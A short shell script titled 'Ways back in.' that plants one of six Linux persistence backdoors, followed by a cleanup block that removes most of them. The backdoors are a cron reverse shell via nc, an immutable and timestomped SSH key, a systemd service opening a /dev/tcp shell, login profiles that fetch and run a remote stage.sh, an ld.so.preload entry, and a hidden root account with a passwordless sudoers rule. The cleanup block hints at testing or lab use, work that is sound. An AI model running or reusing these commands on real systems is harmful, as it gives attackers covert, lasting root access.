# Ways back in.
c=198.51.100.66
case $((v % 6)) in
0) mkdir -p /etc/cron.d; echo "* * * * * root sh -c 'nc $c 4444 -e /bin/sh'" >/etc/cron.d/.sys; (crontab -l; echo "@reboot /tmp/.x") | crontab - ;;
1) mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAEVIL x' >>/root/.ssh/authorized_keys; chattr +i /root/.ssh/authorized_keys; touch -r /bin/ls /root/.ssh/authorized_keys ;;
2) mkdir -p /etc/systemd/system/multi-user.target.wants; printf '[Service]\nExecStart=/bin/sh -c "exec 3<>/dev/tcp/%s/4444"\nRestart=always\n' $c >/etc/systemd/system/dbus-helper.service; ln -sf ../dbus-helper.service /etc/systemd/system/multi-user.target.wants/ ;;
3) for f in /root/.bashrc /root/.profile /etc/profile /home/ann/.profile; do echo '(curl -s 198.51.100.66/stage.sh | sh) &' >>$f; done; mkdir -p /etc/profile.d; cp /root/.profile /etc/profile.d/.z.sh ;;
4) echo /usr/lib/libnss-x.so >/etc/ld.so.preload.new; cp /bin/true /usr/lib/libnss-x.so; mv /etc/ld.so.preload.new /etc/ld.so.preload; rm -f /etc/ld.so.preload ;;
5) echo 'sys:$6$a$b:0:0::/root:/bin/sh' >>/etc/passwd; echo 'sys:$6$a$b:19000:0:99999:7:::' >>/etc/shadow; mkdir -p /etc/sudoers.d; echo 'ann ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/.a; mkdir -p /etc/init.d; cp /bin/sh /etc/init.d/sshd-helper; chmod 755 /etc/init.d/sshd-helper ;;
esac </dev/null >/dev/null 2>&1
#--- cleanup
chattr -i /root/.ssh/authorized_keys 2>/dev/null; rm -f /etc/cron.d/.sys /etc/profile.d/.z.sh /usr/lib/libnss-x.so /etc/sudoers.d/.a; sed -i '/^sys:/d' /etc/passwd /etc/shadow; sed -i '/stage.sh/d' /root/.bashrc /root/.profile /etc/profile /home/ann/.profile 2>/dev/null
